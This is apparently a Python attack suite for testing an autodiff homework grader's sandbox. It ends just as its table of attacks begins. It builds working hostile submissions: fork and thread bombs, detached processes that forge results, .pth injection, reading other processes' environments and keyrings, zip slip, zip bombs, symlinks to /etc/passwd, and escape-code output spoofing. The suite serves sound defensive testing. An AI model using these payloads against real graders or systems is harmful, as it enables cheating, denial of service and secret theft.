"""The attack suite: submissions that try to cheat or to take the grader down, and what the grader
owes against each. Shared by tests/test_attacks.py (which asserts) and benchmarks/attacks.py
(which measures).

Each attack is a tiny submission: the reference with an honest bug planted (a wrong Mul.forward,
a Pow.backward that raises, ...) plus the attack code, at import or inside an op. The honest
submission with the same bug, graded once, is the bar: the attacked submission must score
exactly what it scores, group by group — no point it did not earn, no point lost elsewhere —
leak nothing (a secret in the grader's environment, a marker the attack prints when it could
read something), leave no process behind and reach no listener on 127.0.0.1.

Not every level can be expected to stop every attack: at `process` level student code runs as
the grader's own user, so reading the solutions or killing the grader's processes are beyond it.
Such pairs are skipped with the reason (`skip_reason`), never passed.
"""
import contextlib
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import sysconfig
import tempfile
import textwrap
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Callable

import nbformat
import numpy as np

from grader import GRADED, GRADED_MODULES
from grader.checks.checking import sum_to_shape
from grader.checks.opspec import SPECS, draw
from grader.grade import grade
from grader.report import validate, write_report
from grader.sandbox.launch import SANDBOX_FILES
from grader.sandbox.levels import ISOLATION_LEVELS, level_available, strongest_level
from grader.submission import MAX_UNPACKED_BYTES, MAX_ZIP_MEMBERS
from tests.support.grading import FAST_RUBRIC, feedback, graded_once, group_scores, reference_copy
from tests.support.paths import ROOT

SECRET_NAME = "AUTODIFF_GRADER_SECRET"  # set in the grader's environment while an attack is graded
PAYLOADS = Path(__file__).resolve().parent / "payloads"


def payload(name):
    """The attack code of payloads/NAME.py, as text. Each file is read by the linter as Python, and
    never imported: it runs inside a student's module, whose names (np, an op's own a and b) it uses."""
    return (PAYLOADS / f"{name}.py").read_text()


# -- the honest bugs the attacks hide behind ----------------------------------------------------

IMPORT = "import numpy as np\n"
MUL_RETURN = "        return a * b\n"
WRONG_MUL_RETURN = "        return a * b + 1.0\n"
POW_BACKWARD = "        a, b, y = ctx.saved_tensors\n"
MATMUL_BACKWARD = "        # BEGIN SOLUTION return (G Bᵀ, Aᵀ G), transposing the last two axes, each reduced to its input's shape\n"
LOSSES_END = "        return grad_p, None\n        # END SOLUTION\n"
MUL_ZEROS = "        return np.zeros(np.broadcast_shapes(a.shape, b.shape))\n"
MUL_GRADS = "        grad_a = grad_output * b\n        grad_b = grad_output * a\n"
MUL_ZERO_GRADS = "        grad_a = grad_b = np.zeros(grad_output.shape)\n"

BUGS = {  # name → (edits as reference_copy takes them, graded modules left out)
    "wrong Mul.forward": ({"ops": [(MUL_RETURN, WRONG_MUL_RETURN)]}, ()),
    "Pow.backward raises": ({"ops": [(POW_BACKWARD, "        raise NotImplementedError('Pow.backward')\n")]}, ()),
    "ops.py fails to import": ({"ops": [(IMPORT, IMPORT + "raise ImportError('ops.py is broken')\n")]}, ()),
    "regularizers.py fails to import": ({"regularizers": [(IMPORT, IMPORT + "raise ImportError('broken')\n")]}, ()),
    "no ops.py, no regularizers.py": ({}, ("ops", "regularizers")),
    "no graded module": ({}, GRADED_MODULES),
    "Matmul.backward returns zeros": ({"ops": [(MATMUL_BACKWARD, MATMUL_BACKWARD + "        a, b = ctx.saved_tensors\n"
                                                "        return np.zeros_like(a), np.zeros_like(b)\n")]}, ()),
    "Mul returns zeros": ({"ops": [(MUL_RETURN, MUL_ZEROS), (MUL_GRADS, MUL_ZERO_GRADS)]}, ()),
}


def honest_copy(folder, bugs, edits=None, files=None):
    """The reference with `bugs` planted, then the attack's own `edits` and `files`."""
    folder = reference_copy(folder, joined(*(BUGS[bug][0] for bug in bugs), edits or {}), files)
    for bug in bugs:
        for module in BUGS[bug][1]:
            (folder / "autodiff" / f"{module}.py").unlink()
    return folder


def joined(*edits):
    """Edits for reference_copy, one after the other."""
    merged = {}
    for edit in edits:
        for module, replacements in edit.items():
            merged.setdefault(module, []).extend(replacements)
    return merged


_honest_scores = {}


def honest_scores(bugs, rubric=FAST_RUBRIC):
    """{group: (score, max)} of the honest submission with these bugs (graded once per test run:
    graded_once, which test_official_inputs.py shares; once per process outside pytest)."""
    key = (tuple(sorted(bugs)), str(rubric.path))
    if key not in _honest_scores:
        with tempfile.TemporaryDirectory(prefix="autodiff-honest-") as folder:
            _honest_scores[key] = group_scores(graded_once(honest_copy(Path(folder) / "submission", bugs), rubric))
    return _honest_scores[key]


# -- where attack code goes ---------------------------------------------------------------------

def at_import(code, module="ops"):
    return {module: [(IMPORT, IMPORT + textwrap.dedent(code))]}


def in_mul_forward(code):
    """Before the (wrong) return of Mul.forward: needs the bug 'wrong Mul.forward'."""
    return {"ops": [(WRONG_MUL_RETURN, textwrap.indent(textwrap.dedent(code), " " * 8) + WRONG_MUL_RETURN)]}


def in_pow_backward(code):
    return {"ops": [(POW_BACKWARD, textwrap.indent(textwrap.dedent(code), " " * 8) + POW_BACKWARD)]}


def at_end_of_losses(code):
    """At the end of losses.py: the course's train.py can be imported there (ops and activations are)."""
    return {"losses": [(LOSSES_END, LOSSES_END + "\n\n" + textwrap.dedent(code))]}


@dataclass
class Context:
    """What one attack run shares with its attack code and its checks."""
    folder: Path          # under /tmp, traversable by the sandbox's uid; holds the grade's temporary folders
    token: str            # in the name of every file and the command line of every process the attack makes
    secret: str           # the value of SECRET_NAME in the grader's environment
    listener: socket.socket
    cleanup: list = field(default_factory=list)  # paths outside `folder` the attack may have written

    @property
    def marker(self):  # printed or raised only by an attack that got hold of something it should not have
        return f"LEAKED-{self.token}"

    @property
    def port(self):
        return self.listener.getsockname()[1]

    @property
    def grading(self):  # tempfile's folder while grading: the scratch and results folders go here
        return self.folder / "grading"


def raise_leak(expression):
    """Code that raises the marker and `expression` (which may read something it should not), when it can."""
    return textwrap.dedent(f"""\
    try:
        _leak = {expression}
    except Exception:
        _leak = None
    if _leak:
        raise RuntimeError(MARKER + ' ' + str(_leak)[:300])
    """)


def with_marker(ctx, code):
    return f"MARKER = {ctx.marker!r}\n" + textwrap.dedent(code)


# -- the attacks --------------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    name: str
    make: Callable                 # (folder, ctx) → the submission's path
    honest: tuple = ()             # the planted bugs: the attack must score what they score, no more, no less
    weakest: str = "process"       # the weakest isolation level that can be expected to stop it
    beyond: tuple = ()             # stronger levels that cannot stop it all the same (see BEYOND)
    beyond_why: str = None         # why, when it is not BEYOND's reason for the level
    trusted_side: bool = False     # fought off while the submission is read, before any student code runs
    unreadable: str = None         # the submission must be refused with a message containing this
    says: list = ()                # (group or "notes", text): what the feedback or the notes must say
    check: Callable = None         # (report, ctx) → a list of problems, beyond the common ones
    slow: bool = False             # costs a check's timeout (10 s)


def edited(bugs, edits=lambda ctx: {}, files=lambda ctx: {}):
    return lambda folder, ctx: honest_copy(folder, bugs, edits(ctx), files(ctx))


ALWAYS_EQUAL = payload("always_equal")
PASS_EVERYTHING_CONFTEST = payload("pass_everything_conftest")
SKIP_MUL_INI = "[pytest]\naddopts = -k 'not Mul' -p no:grader.checks.plugin\n"
PATCH_NUMPY = "import numpy\nnumpy.allclose = lambda *args, **kwargs: True\n"


def ignored_files(*paths):
    def check(report, ctx):
        missing = [p for p in paths if f"{p} (not graded)" not in report["submission"]["ignored"]]
        return [f"not listed as ignored: {', '.join(missing)}"] if missing else []
    return check


def pth_folders():
    """Where a .pth file would run code in the grader's next Python process."""
    import site
    return [Path(sysconfig.get_paths()["purelib"]), *map(Path, site.getsitepackages())]


def pth_written_to_site_packages(ctx):
    paths = [folder / f"autodiff-attack-{ctx.token}.pth" for folder in pth_folders()]
    ctx.cleanup += paths
    return at_import(f"""\
    for _path in {[str(p) for p in paths]!r}:
        try:
            with open(_path, "w") as _file:
                _file.write("import numpy; numpy.allclose = lambda *args, **kwargs: True\\n")
        except OSError:
            pass
    """)


def no_pth_written(report, ctx):
    written = [str(p) for p in ctx.cleanup if p.suffix == ".pth" and p.exists()]
    return [f"the attack wrote {', '.join(written)}"] if written else []


def rewrite_reports_at_exit(ctx):
    """An atexit handler writing a perfect score over every JSON file in reach, then the worker's
    pipes closed so that it exits on its own (a SIGKILL runs no handler)."""
    return at_import(f"""\
    import atexit, json, os, pathlib

    def _fake_full_marks():
        fake = json.dumps({{'score': 100, 'max_score': 100, 'tests': []}})
        for folder in (pathlib.Path.cwd(), pathlib.Path({str(ctx.grading)!r})):
            try:
                for path in list(folder.rglob('*.json')) + [folder / 'checks.json']:
                    try:
                        path.write_text(fake)
                    except OSError:
                        pass
            except OSError:
                pass

    atexit.register(_fake_full_marks)
    os.closerange(3, 256)
    """, module="regularizers")


REWRITE_RESULTS = payload("rewrite_results")


def detached_rewriter(ctx):
    """A process left behind (double fork, setsid) that waits for the checks' results file and marks
    every check passed: the grader reads it only after the worker stopped, so nothing may survive."""
    return at_import(f"""\
    import os, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", {REWRITE_RESULTS!r}, {str(ctx.grading)!r}, {ctx.token!r}])
        os._exit(0)
    """, module="regularizers")


FAKE_OUTPUT = payload("fake_output")
IGNORE_SIGNALS = payload("ignore_signals")
MEMORY_BOMB = payload("memory_bomb")
FLOOD_OUTPUT = payload("flood_output")
TIMED_OUT = "no answer within the time limit of 10 s"
THREAD_BOMB = payload("thread_bomb")


def fork_bomb(ctx):
    child = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.05)\n"
    return in_pow_backward(f"""\
    import os, sys, time
    while True:
        try:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", {child!r}, {ctx.token!r}])
        except OSError:
            time.sleep(0.05)
    """)


def files_for_the_next_group(ctx):
    """At each import of ops.py (once per group): leave a file, and a folder of 0500 holding one, in
    every folder a worker can write outside its scratch copy; finding one an earlier group's worker
    left, break this group's Mul."""
    return at_import(f"""\
    import os as _os
    _places = ["/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp")]
    _left = [_os.path.join(folder, name) for folder in _places if _os.path.isdir(folder)
             for name in _os.listdir(folder) if name.startswith({ctx.token!r})]
    for _folder in _places:
        try:
            open(_os.path.join(_folder, f"{ctx.token}-{{_os.getpid()}}"), "w").close()
            _kept = _os.path.join(_folder, f"{ctx.token}-kept-{{_os.getpid()}}")
            _os.makedirs(_os.path.join(_kept, "inner"))
            open(_os.path.join(_kept, "inner", "file"), "w").close()
            _os.chmod(_os.path.join(_kept, "inner"), 0o500)  # its file out of its owner's reach to delete
            _os.chmod(_kept, 0o500)
        except OSError:
            pass
    try:  # the exchange file, the one file of the scratch copy a worker may write
        with open(".exchange", "r+b") as _exchange:
            if _exchange.read(len({ctx.token!r})) == {ctx.token!r}.encode():
                _left.append(".exchange")
            _exchange.seek(0)
            _exchange.write({ctx.token!r}.encode())
    except OSError:
        pass
    if _left:
        raise RuntimeError(f"an earlier group's worker left {{_left[:3]}}")
    """)


def big_file_in_tmp(ctx):
    path = Path(f"/tmp/autodiff-attack-{ctx.token}")
    ctx.cleanup.append(path)
    return in_pow_backward(f"""\
    with open({str(path)!r}, "wb") as _file:
        for _ in range(1024):
            _file.write(bytes(1 << 20))
    """)


def read_mnist_test_labels(ctx):
    labels = ROOT / "datasets" / "mnist" / "t10k-labels-idx1-ubyte.gz"
    return in_mul_forward(with_marker(ctx, "import gzip\n" + raise_leak(
        f"''.join(map(str, gzip.decompress(open({str(labels)!r}, 'rb').read())[8:68]))")))


# MNIST credit without a working Matmul.backward: the worker used to train and predict, so replacing
# the course's predict or train (by name, after the student's modules ran) bought the accuracy.
NEAREST_NEIGHBOUR = payload("nearest_neighbour")

# A hand-written numpy trainer for the course's MLP3, in place on its weights: no op's backward used.
HAND_TRAINER = payload("hand_trainer")


# MNIST credit from a Matmul.backward that computes nothing: weights trained elsewhere (here, by a
# numpy MLP3 in the worker, on its training images, from MLP3(seed=0)'s weights) reached through
# the trusted side's own SGD, the gradient sent being (W − W_target) / lr, in one step or spread.
STEERING = payload("steering")


def steering(steps):
    return edited(ZERO_MATMUL, lambda ctx: at_end_of_losses(HAND_TRAINER + f"STEPS = {steps}\n" + STEERING))


def test_label_table():
    """The public MNIST test labels keyed by the images' content, as the worker's predict saw them."""
    import hashlib

    from grader.course import load_mnist
    data = load_mnist()
    images = data.test_images.reshape(len(data.test_images), -1).astype(np.float32) / 255
    return ",".join(f"{hashlib.sha1(row.tobytes()).hexdigest()[:12]}:{label}" for row, label in zip(images, data.test_labels, strict=True))


# MNIST's gradients come through the sandbox's exchange file (launch.EXCHANGE), the one file of the
# scratch folder the worker may write: the grader must never open what a worker puts at its path,
# nor trust, hang on or crash on what the worker writes into it.
EXCHANGE_REPLACED = payload("exchange_replaced")
EXCHANGE_CUT = payload("exchange_cut")


def label_lookup(ctx):
    return at_end_of_losses(f"""\
    import hashlib
    import autodiff.train as _course

    _TABLE = dict(item.split(":") for item in {test_label_table()!r}.split(","))

    def _look_up(model, images, batch_size=2000):
        return np.array([int(_TABLE.get(hashlib.sha1(row.tobytes()).hexdigest()[:12], 0)) for row in images])

    _course.predict = _look_up
    """)


def hand_trainer_in_notebook(folder, ctx):
    """The notebook's Matmul.forward, at its first call with MLP3's first weight (inside the course's
    train), finds the model and trains it by hand; its zero backward then leaves the weights be."""
    cells = notebook_cells(honest_copy(folder / "submission", ["Matmul.backward returns zeros"]))
    takeover = textwrap.indent(textwrap.dedent("""\
        if b.shape == (784, 256) and not getattr(Matmul, "_trained", False):
            import gc, pathlib
            Matmul._trained = True
            from autodiff.train import prepare_images
            folder = pathlib.Path.cwd() / "mnist"
            for model in [o for o in gc.get_objects() if type(o).__name__ == "MLP3"]:
                _hand_train(model, prepare_images(np.load(folder / "train_images.npy")[:6000]),
                            np.load(folder / "train_labels.npy")[:6000])
        """), " " * 8)
    cells = [cell.replace("        ctx.save_for_backward(a, b)\n", takeover + "        ctx.save_for_backward(a, b)\n")
             if cell.startswith("class Matmul") else cell for cell in cells]
    assert any("_hand_train(model" in cell for cell in cells)
    return notebook(folder, "hw.ipynb", cells + [HAND_TRAINER])


def copy_the_solutions(ctx):
    solution = ROOT / "solutions" / "autodiff" / "ops.py"
    return in_mul_forward(f"""\
    try:
        _solution = {{"__name__": "autodiff.solution", "__package__": "autodiff"}}
        exec(open({str(solution)!r}).read(), _solution)
        return _solution["Mul"].forward(ctx, a, b)  # the reference's answer instead of the student's
    except OSError:
        pass
    """)


def read_file(path):
    return lambda ctx: in_mul_forward(with_marker(ctx, raise_leak(f"open({str(path)!r}).read()")))


def read_environment(ctx):
    return in_mul_forward(with_marker(ctx, "import os\n" + raise_leak(f"os.environ.get({SECRET_NAME!r})")))


def read_other_processes_environment(ctx):
    return in_mul_forward(with_marker(ctx, f"""\
    import pathlib
    _leak = []
    for _path in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            _leak += [line for line in _path.read_bytes().split(b"\\0") if line.startswith({SECRET_NAME.encode()!r})]
        except OSError:
            pass
    if _leak:
        raise RuntimeError(MARKER + " " + str(_leak)[:300])
    """))


def connect_to_listener(ctx):
    return in_mul_forward(with_marker(ctx, f"""\
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=1) as _connection:
            _connection.sendall(MARKER.encode())
    except OSError:
        pass
    """))


def kill_parent(where):
    # errors suppressed: where the kill is refused (another uid), the rest of the code must still run
    return lambda ctx: where("import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\n")


def syscall_number(name):
    import pyseccomp
    return pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name)


FORGE_REPLIES = payload("forge_replies")

PIPE_WRITER = payload("pipe_writer")


def read_session_key(ctx):
    """A key placed in the grader's session keyring (as a course's grader running under a login
    session, or another student's worker, could hold one), then read from inside the sandbox."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    key = libc.syscall(syscall_number("add_key"), b"user", f"autodiff-{ctx.token}".encode(), ctx.secret.encode(),
                       len(ctx.secret), ctypes.c_int(-3))  # KEY_SPEC_SESSION_KEYRING
    assert key > 0, f"add_key failed: errno {ctypes.get_errno()}"
    libc.syscall(syscall_number("keyctl"), 15, key, 300)  # KEYCTL_SET_TIMEOUT: gone in 5 minutes whatever happens
    return in_mul_forward(with_marker(ctx, f"""\
    import ctypes
    _libc = ctypes.CDLL(None, use_errno=True)
    _key = _libc.syscall({syscall_number("request_key")}, b"user", {f"autodiff-{ctx.token}".encode()!r}, None, 0)
    _buffer = ctypes.create_string_buffer(256)
    if _key > 0 and _libc.syscall({syscall_number("keyctl")}, 11, _key, _buffer, 256) > 0:  # KEYCTL_READ
        raise RuntimeError(MARKER + " " + _buffer.value.decode())
    """))


def links_in_place_of_the_graders_files(ctx):
    """At `uid` the worker's cwd is its scratch folder: the grader's own files there (its logs, the
    sandbox's runtime folder) replaced by links to a file only root may read or write, then the
    supervisor killed, so that the grader starts a fresh sandbox in that folder — and, were it to
    follow them, shows the file's last line as the sandbox's error or writes through them as root."""
    secret = ctx.folder / f"root-only-{ctx.token}"
    secret.write_text(f"first line\n{ctx.marker}\n")
    secret.chmod(0o600)
    ctx.cleanup.append(secret)  # checked unchanged (root_only_file_unchanged)
    return in_pow_backward(f"""\
    import os, signal
    try:
        for _name in ("sandbox.log", "worker.log"):
            os.unlink(_name)
            os.symlink({str(secret)!r}, _name)
        os.rename(".worker", ".worker-old")
        os.mkdir(".worker")
        for _name in {tuple(path.name for path in SANDBOX_FILES)!r}:
            os.symlink({str(secret)!r}, os.path.join(".worker", _name))
    except OSError:
        pass
    try:  # the supervisor: the same uid at `uid` level (in a namespace it is PID 1, out of reach)
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    raise NotImplementedError("Pow.backward")  # the honest bug it hides behind
    """)


def root_only_file_unchanged(report, ctx):
    (secret,) = [path for path in ctx.cleanup if path.name.startswith("root-only-")]
    text = secret.read_text() if secret.exists() else ""
    return [] if text == f"first line\n{ctx.marker}\n" else [f"the root-only file was written through a link: {text[:200]!r}"]


SANDBOX_SAYS = "import sys\nprint(\"bwrap: Can't mount proc on /newroot/proc: the sandbox is broken\", file=sys.stderr, flush=True)\n"


def not_blamed_on_the_sandbox(report, ctx):
    said = feedback(report, "Pow")
    return ["a line the student printed is shown as the sandbox's own error"] if "sandbox could not start" in said else []


# -- archives and notebooks ---------------------------------------------------------------------

def zip_of(folder, archive, extra=(), links=()):
    """folder's files as a zip, plus extra (name, data) entries and links (name, target)."""
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                zipped.write(path, path.relative_to(folder).as_posix())
        for name, data in extra:
            zipped.writestr(zipfile.ZipInfo(name), data)
        for name, target in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)  # S_IFLNK | 0o777
            zipped.writestr(info, target)
    return archive


def zip_slip(folder, ctx):
    submission = honest_copy(folder / "submission", ["wrong Mul.forward"])
    solution = (ROOT / "solutions" / "autodiff" / "ops.py").read_text()
    return zip_of(submission, folder / "hw.zip", [("../autodiff/ops.py", solution), ("autodiff/../../ops.py", solution),
                                                  (f"../../autodiff-attack-{ctx.token}.py", "print('escaped')")])


def absolute_paths(folder, ctx):
    submission = honest_copy(folder / "submission", ["wrong Mul.forward"])
    ctx.cleanup.append(Path(f"/tmp/autodiff-attack-{ctx.token}"))
    return zip_of(submission, folder / "hw.zip", [(f"/tmp/autodiff-attack-{ctx.token}/ops.py", "print('absolute')")])


def nothing_written_outside(report, ctx):
    """The entries that pointed outside the unpacking folder left no file anywhere we can see (the
    grader's temporary folder, which holds the unpacking folder, is checked for every trusted-side attack)."""
    leaked = [str(p) for p in ctx.folder.rglob(f"*{ctx.token}*")] + [str(p) for p in ctx.cleanup if p.exists()]
    return [f"written outside the unpacking folder: {', '.join(leaked)}"] if leaked else []


LINKS = [("autodiff/ops.py", str(ROOT / "solutions" / "autodiff" / "ops.py")), ("autodiff/regularizers.py", "/etc/passwd")]


def zip_with_links(folder, ctx):
    submission = honest_copy(folder / "submission", ["no ops.py, no regularizers.py"])
    return zip_of(submission, folder / "hw.zip", links=LINKS)


def folder_with_links(folder, ctx):
    submission = honest_copy(folder / "submission", ["no ops.py, no regularizers.py"])
    for name, target in LINKS:
        (submission / name).symlink_to(target)
    return submission


def folder_with_linked_package(folder, ctx):
    """autodiff/ a link to the solutions, found through a flat ops.py next to it."""
    submission = folder / "submission"
    submission.mkdir()
    (submission / "ops.py").write_text("raise NotImplementedError\n")
    (submission / "autodiff").symlink_to(ROOT / "solutions" / "autodiff")
    return submission


def zip_bomb(folder, ctx):
    archive = folder / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped, zipped.open("autodiff/ops.py", "w") as bomb:
        zeros = bytes(1 << 20)
        for _ in range(1024):  # 1 GB of zeros in about 1 MB
            bomb.write(zeros)
    return archive


def ten_thousand_files(folder, ctx):
    submission = honest_copy(folder / "submission", [])
    return zip_of(submission, folder / "many.zip", [(f"junk/{i}.py", "") for i in range(10_000)])  # code: counted


def non_utf8_names_in_zip(folder, ctx):
    """Entries whose names are not UTF-8 (no UTF-8 flag: zip readers take them as cp437)."""
    submission = honest_copy(folder / "submission", ["wrong Mul.forward"])
    placeholder = b"NOT-UTF-8"  # replaced by the same number of bytes, in the entry's two headers
    archive = zip_of(submission, folder / "hw.zip", [("autodiff/NOT-UTF-8.py", "x = 1\n"), ("NOT-UTF-8.txt", "")])
    assert archive.read_bytes().count(placeholder) == 4
    archive.write_bytes(archive.read_bytes().replace(placeholder, b"\xff\xfe-\x80\x81\xc3(-\xe9"))
    return archive


def non_utf8_names_in_folder(folder, ctx):
    submission = honest_copy(folder / "submission", ["wrong Mul.forward"])
    for name in (b"autodiff/\xff\xfe-notes.py", b"\xff.txt"):
        Path(os.fsdecode(os.fsencode(submission) + b"/" + name)).write_text("x = 1\n")
    return submission


def notebook_cells(folder):
    """Code cells holding the graded definitions of the graded modules in folder/autodiff."""
    import ast
    cells = ["from autodiff.tensor import Function, reduce_grad_to_shape, EPS\nimport numpy as np"]
    for module in GRADED_MODULES:
        source = (folder / "autodiff" / f"{module}.py").read_text()
        cells += [ast.get_source_segment(source, node) for node in ast.parse(source).body
                  if getattr(node, "name", None) in GRADED]
    return cells


def notebook(folder, name, cells, outputs=None):
    code = nbformat.v4.new_code_cell
    notebook = nbformat.v4.new_notebook(cells=[code(cell) for cell in cells])
    if outputs:
        notebook.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout", text=outputs)]
    path = folder / name
    path.write_text(nbformat.writes(notebook))
    return path


def invalid_json_notebook(folder, ctx):
    (folder / "hw.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "class Mul:')
    return folder / "hw.ipynb"


def notebook_v3(folder, ctx):
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    v3 = nbformat.v3
    old = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[v3.new_code_cell(input=cell) for cell in cells])])
    (folder / "hw.ipynb").write_text(nbformat.v3.writes_json(old))
    return folder / "hw.ipynb"


def notebook_with_huge_outputs(folder, ctx):
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"])) + ["print('x' * 50_000_000)"]
    return notebook(folder, "hw.ipynb", cells, outputs="x" * 50_000_000)


def notebook_cell_defines_then_raises(folder, ctx):
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    cells[-1] += "\n\nraise RuntimeError('run the cells above first')"
    return notebook(folder, "hw.ipynb", cells)


FORGED_CELLS = payload("forged_cells")


def notebook_forging_its_cells(folder, ctx):
    """A first cell that answers every later cell's request itself: all ran, nothing neutralised
    but a flood, names defined that are not."""
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    return notebook(folder, "hw.ipynb", [FORGED_CELLS] + cells)


def notebook_writing_no_utf8(folder, ctx):
    """A %%writefile cell whose text holds a lone surrogate (valid JSON, nbformat reads it; no file
    can be written from it): once a traceback and no report."""
    import json

    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    data = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells + ["%%writefile autodiff/helper.py\nX = '\ud800'\n"]])
    (folder / "hw.ipynb").write_text(json.dumps(data))  # the surrogate as JSON escapes it: \\ud800
    return folder / "hw.ipynb"


def cells_said_as_data(report, ctx):
    """What the worker said of the cells is bounded, and never more than the run's own outcomes;
    the forging cell itself ran (else the attack tried nothing)."""
    cells = report["submission"]["cells"]
    first = min(cells, key=lambda cell: cell["cell"])
    problems = [] if first["outcome"] == "ran" else [f"the forging cell did not run: {first['outcome']}, {first.get('detail', '')}"]
    problems += [f"cell {c['cell']} says {len(c['neutralised'])} neutralised items" for c in cells if len(c["neutralised"]) > 20]
    problems += [f"a neutralised item of {len(item)} characters" for c in cells for item in c["neutralised"] if len(item) > 80]
    return problems


def notebook_cell_ignoring_its_budget(folder, ctx):
    """A cell that ignores SIGALRM and spins: the trusted side stops the worker at its own deadline."""
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    spin = "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.setitimer = lambda *a, **k: None\nwhile True:\n    pass"
    return notebook(folder, "hw.ipynb", cells + [spin])


def notebook_rewriting_its_run(folder, ctx):
    """A cell that tries to change what the other groups' workers run (the plan, the cells, the
    course's engine on disk) and takes back IPython's magics for itself."""
    cells = notebook_cells(honest_copy(folder / "submission", ["wrong Mul.forward"]))
    rewrite = textwrap.dedent("""\
        import json, pathlib
        for name in ("notebook-plan.json", "notebook.json", "autodiff/tensor.py"):
            try:
                pathlib.Path(name).write_text("{}")
            except OSError:
                pass
        get_ipython().run_line_magic = lambda *a, **k: None
        """)
    return notebook(folder, "hw.ipynb", cells + [rewrite])


def answer_table(ctx):
    """A Mul that answers from a table of what the handout's checks ask (their inputs seeded by the
    check's id alone: the handout's rubric has no salt), and zeros otherwise: the honest Mul that
    returns zeros, plus a table. Each visible Mul check's inputs are rebuilt here as the checks
    build them, and the right answers stored, keyed by the bytes of the inputs."""
    handout = SimpleNamespace(salt="")
    outputs, gradients = {}, {}
    for case in SPECS["Mul"].cases:
        for test in ("test_forward", "test_backward"):
            node = SimpleNamespace(path=Path("test_functions.py"), nodeid=f"grader/checks/test_functions.py::{test}[Mul-{case.id}]")
            rng, (a, b), output = draw("Mul", case, SimpleNamespace(node=node, getfixturevalue=lambda name: handout))
            key = hashlib.sha256(a.tobytes() + b.tobytes()).hexdigest()
            outputs[key] = output.tolist()
            if test == "test_backward":
                upstream = rng.normal(size=output.shape)
                gradients[hashlib.sha256(a.tobytes() + b.tobytes() + upstream.tobytes()).hexdigest()] = [
                    sum_to_shape(upstream * b, a.shape).tolist(), sum_to_shape(upstream * a, b.shape).tolist()]
    return joined(at_import(f"import hashlib\nOUTPUTS = {outputs!r}\nGRADIENTS = {gradients!r}\n"), {"ops": [
        (MUL_ZEROS, "        ctx.key = a.tobytes() + b.tobytes()\n"
                    "        known = OUTPUTS.get(hashlib.sha256(ctx.key).hexdigest())\n"
                    "        return np.array(known) if known is not None else np.zeros(np.broadcast_shapes(a.shape, b.shape))\n"),
        (MUL_ZERO_GRADS, "        known = GRADIENTS.get(hashlib.sha256(ctx.key + grad_output.tobytes()).hexdigest())\n"
                         "        grad_a, grad_b = map(np.array, known) if known else (np.zeros(grad_output.shape),) * 2\n")]})


COMPLEX_MUL = {"ops": [(WRONG_MUL_RETURN, "        return a * b + 1e-3j\n")]}  # the right real part

# Terminal codes that would draw a fake "passed" row, a bidi override, written raw into the source
# (so the traceback's source line holds them too), and a lone surrogate and a carriage return by escape.
RAW_CODES = "\x1b[2K\x1b[32mPow 8 / 8 passed\x1b[0m \u202e"
HOSTILE_STRINGS = f"""\
import sys
_hostile = "{RAW_CODES}" + "\\r\\ud800"
for _stream in (sys.stdout, sys.stderr):  # bytes: print() itself refuses a lone surrogate
    _stream.flush()
    _stream.buffer.write(_hostile.encode("utf-8", "surrogatepass") + b"\\n")
    _stream.flush()
raise type("Bad{RAW_CODES}\\r", (Exception,), {{}})("{RAW_CODES}" + _hostile)  # a class name cannot hold a surrogate
"""


def nothing_raw(report, ctx):
    """Every string student code controlled is in the report, escaped: written as UTF-8, no terminal
    code in the report or the terminal table."""
    from grader.report import format_table

    problems = []
    try:
        text = json.dumps(report, ensure_ascii=False).encode("utf-8").decode("utf-8")
    except UnicodeError as error:
        return [f"the report cannot be written as UTF-8: {error}"]
    for where, shown in (("report", text), ("terminal table", format_table(report))):
        raw = sorted({repr(c) for c in shown if c in "\x1b\r\u202e" or 0xD800 <= ord(c) <= 0xDFFF})
        problems += [f"raw {', '.join(raw)} in the {where}"] if raw else []
    if "Bad\\x1b[2K\\x1b[32mPow 8 / 8 passed" not in feedback(report, "Pow"):
        problems.append("the exception's type name is not shown, escaped, in the Pow feedback")
    return problems


# -- the table ------------------------------------------------------------------------------------

# At `uid` the supervisor runs as the worker's uid, outside any PID namespace: a worker can kill it.
# That costs the student's own group (the next request gets a fresh sandbox), never earns a point.
SUPERVISOR_SAME_UID = "the supervisor shares the worker's uid, so a worker can kill it: its own group's points only"
WRONG_MUL, POW_RAISES, OPS_BROKEN = ["wrong Mul.forward"], ["Pow.backward raises"], ["ops.py fails to import"]
ZERO_MATMUL = ["Matmul.backward returns zeros"]
TRAINED = "is not lr × MLP3's gradient on this batch"  # MNIST's feedback: the zero backward's first step refused
MUL_ZERO = ["Mul returns zeros"]

ATTACKS = [
    # the official inputs, and what is read back
